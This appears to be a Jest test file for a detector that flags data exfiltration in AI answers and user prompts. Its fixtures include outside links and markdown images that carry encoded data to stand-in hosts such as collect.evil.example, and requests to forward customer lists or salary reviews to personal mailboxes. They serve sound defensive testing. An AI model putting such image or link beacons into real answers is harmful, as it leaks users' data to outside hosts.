import { detectInteraction, type DetectionSettings } from '../../../server/core/risk/detect';
import { responseExfiltrationRule, sendOutsideRule } from '../../../server/core/risk/exfiltrationRules';
import type { ScannableInteraction } from '../../../server/core/risk/fields';
import { tenantHostMatcher } from '../../../server/core/risk/tenantHosts';
import { context, promptField, run } from './riskTestKit';

/**
 * The exfiltration rules at their edges, through detectInteraction: which schemes and query values carry data out
 * (a value of 24 characters, or of 12 with letters and digits; not a validity stamp, not a signature whatever its
 * name's case), a link inside an image reported once, a link in a URL field read whole, what each finding says, and
 * how far around an address a prompt's sending words and sensitive objects are looked for.
 */

const settings: DetectionSettings = { isTenantHost: tenantHostMatcher(['contoso.com']), watchlist: [] };

async function exfiltration(interaction: Partial<ScannableInteraction> & { text?: string }, type = 'aiResponse') {
  const { text, ...rest } = interaction;
  const scanned: ScannableInteraction = { interactionType: type, body: text ? { content: text } : null, attachments: [], links: [], ...rest }; // prettier-ignore
  return (await detectInteraction(scanned, settings))
    .filter((m) => m.category === 'exfiltration')
    .map(({ value: _value, ...m }) => m);
}
const answer = (text: string) => exfiltration({ text });
const ask = (text: string) => exfiltration({ text }, 'userPrompt');

describe('an outside link in an answer', () => {
  it('carries data in a query value of 24 characters, or of 12 with letters and digits', async () => {
    expect(await answer(`See https://files.evil.example/u?q=${'abcdefghijkl'.repeat(2)}`)).toHaveLength(1);
    expect(await answer(`See https://files.evil.example/u?q=${'abcdefghijkl'.repeat(2).slice(1)}`)).toEqual([]);
    expect(await answer('See https://files.evil.example/u?q=abcdefghij12')).toHaveLength(1);
    expect(await answer('See https://files.evil.example/u?q=abcdefghi12')).toEqual([]);
    expect(await answer('See https://files.evil.example/u?q=abcdefghijkl')).toEqual([]);
    expect(await answer('See https://files.evil.example/u?q=123456789012')).toEqual([]);
  });

  it('does not count a validity stamp, whole, as data, nor a signature whatever the case of its name', async () => {
    for (const stamp of [
      '2026-12-31T23:59:59Z',
      '2026-12-31T23:59:59.123+01:00',
      '2026-12-31 23:59:59-0500',
      '2026-12-31T23:59:59',
    ])
      expect(await answer(`See https://files.evil.example/u?expires=${encodeURIComponent(stamp)}`)).toEqual([]);
    expect(await answer('See https://files.evil.example/u?d=2026-12-31data4f2a9c1b')).toHaveLength(1);
    expect(await answer('See https://files.evil.example/u?d=ref2026-12-31')).toHaveLength(1);
    expect(await answer(`See https://files.evil.example/u?SIG=Qm7vR2nT8kW4pX6zL1cY9bH3`)).toEqual([]);
  });

  it('reads http and https links, not other schemes', async () => {
    const data = 'payload=4f2a9c1b7e3d5a6f8b0c2d4e6f';
    expect(await answer(`Open http://files.evil.example/upload?${data}`)).toMatchObject([
      { rule: 'data-in-external-link', start: 5, masked: 'https://files.evil.example/…' },
    ]);
    const link = (linkUrl: string) => exfiltration({ text: 'See the link.', links: [{ linkUrl }] });
    expect(await link(`ftp://files.evil.example/upload?${data}`)).toEqual([]);
    expect(await link(`https://files.evil.example/upload?${data}`)).toHaveLength(1);
  });

  it('says what it found: a link carrying data at medium confidence, an image at medium or, with data, high', async () => {
    const url = 'https://files.evil.example/upload?payload=4f2a9c1b7e3d5a6f8b0c2d4e6f';
    expect(await answer(`Open ${url} now`)).toEqual([
      {
        rule: 'data-in-external-link',
        category: 'exfiltration',
        severity: 'medium',
        confidence: 'medium',
        type: 'Outside link carrying data in its query',
        start: 5,
        end: 5 + url.length,
        masked: 'https://files.evil.example/…',
        redact: false,
        path: 'body',
      },
    ]);
    const img = '<img src="https://tracker.example/a.gif">';
    expect(await answer(`Hi ${img}`)).toMatchObject([
      { rule: 'external-image-in-response', type: 'Image from an outside host', confidence: 'medium', start: 3, end: 3 + img.length - 2 }, // prettier-ignore
    ]);
  });

  it('reports a link inside an image once, as the image, and a link right after the image on its own', async () => {
    const image = '![x](https://collect.evil.example/p.png?d=c2VjcmV0LWRhdGEtZnJvbS10aGUtZmlsZQ)';
    // The rule itself (detectInteraction would also drop the link as overlapping the longer image finding).
    const rule = (text: string) => run(responseExfiltrationRule, text, { source: 'response' }).map((m) => m.rule);
    expect(rule(`Done. ${image}`)).toEqual(['external-image-in-response']);
    const after = 'https://files.evil.example/u?q=abcdefghij12';
    // A link before an image is outside its span too.
    expect((await answer(`Open ${after} ${image}`)).map((m) => [m.rule, m.start])).toEqual([
      ['data-in-external-link', 5],
      ['external-image-in-response', 6 + after.length],
    ]);
    expect((await answer(`Done. ${image}${after}`)).map((m) => [m.rule, m.start])).toEqual([
      ['external-image-in-response', 6],
      ['data-in-external-link', 6 + image.length],
    ]);
  });

  it('reads a URL field whole, also past characters that end a link in text', async () => {
    const linkUrl = 'https://files.evil.example/upload?payload=4f2a9c1b7e3d5a6f8b0c2d4e6f&x=(a)';
    expect(await exfiltration({ text: 'See the link.', links: [{ linkUrl }] })).toMatchObject([
      { rule: 'data-in-external-link', path: 'links[0].linkUrl', start: 0, end: linkUrl.length },
    ]);
  });

  it('is only looked for in answers', async () => {
    expect(await ask('Check ![x](https://collect.evil.example/p.png?d=c2VjcmV0LWRhdGEtZnJvbS10aGUtZmlsZQ)')).toEqual([]); // prettier-ignore
  });
});

describe('a prompt sending content outside', () => {
  it('says what it found: a personal mailbox at medium severity and high confidence, its domain in any case', async () => {
    expect(await ask('Send the customer list to Jamie.Lee84@GMAIL.COM tonight')).toEqual([
      {
        rule: 'send-to-personal-address',
        category: 'exfiltration',
        severity: 'medium',
        confidence: 'high',
        type: 'Asked to send content to a personal mailbox',
        start: 26,
        end: 47,
        masked: 'J••••@GMAIL.COM',
        redact: false,
        path: 'body',
      },
    ]);
  });

  it('says what it found: another organisation at low severity and confidence', async () => {
    expect(await ask('Forward the confidential salary review to recruiter@talentfirm.example')).toMatchObject([
      { rule: 'send-to-external-address', severity: 'low', confidence: 'low', type: 'Asked to send content outside the organisation' }, // prettier-ignore
    ]);
  });

  it('looks for what is sent up to 160 characters before the address and 60 after it', async () => {
    const filler = ' It was agreed in the steering group last Tuesday after a long and careful review of every option on the table.'; // prettier-ignore
    expect(await ask(`Forward the summary to recruiter@talentfirm.example, it is the salary review.`)).toHaveLength(1);
    expect(await ask(`Forward the summary to recruiter@talentfirm.example.${filler} It is the salary review.`)).toEqual([]); // prettier-ignore
    expect(await ask(`The salary review is done.${filler}${filler} Forward the summary to recruiter@talentfirm.example`)).toEqual([]); // prettier-ignore
  });

  it('takes the address as the destination only where the sending words lead to it', async () => {
    // The address is something to write into the text, not where it goes.
    expect(await ask('Forward the agenda to the team and add my contact, jamie.lee84@gmail.com, at the bottom')).toEqual([]); // prettier-ignore
    expect(await ask('Forward the agenda to the team and to my personal address, jamie.lee84@gmail.com')).toHaveLength(1); // prettier-ignore
  });

  it('is never looked for in answers or in URLs', async () => {
    expect(await answer('Send the customer list to jamie.lee84@gmail.com so I can work at home')).toEqual([]);
    const mailto = 'mailto:jamie.lee84@gmail.com?body=send the customer list to jamie.lee84@gmail.com';
    expect(sendOutsideRule(promptField(mailto, 'url'), context())).toEqual([]);
    expect(sendOutsideRule(promptField(mailto, 'body'), context())).toHaveLength(1);
  });
});
